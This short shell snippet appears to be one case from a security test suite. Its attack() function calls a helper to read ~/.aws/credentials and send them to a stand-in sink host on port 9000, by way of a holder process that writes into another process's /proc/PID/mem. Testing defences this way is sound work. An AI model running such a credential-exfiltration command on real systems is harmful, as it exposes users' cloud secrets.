# SPDX-License-Identifier: Apache-2.0
TITLE="the holder writes it into the sender's /proc/PID/mem"
attack() { "$PROVOKE/holder" pokemem "$HOME/.aws/credentials" "$SINK4" 9000; }
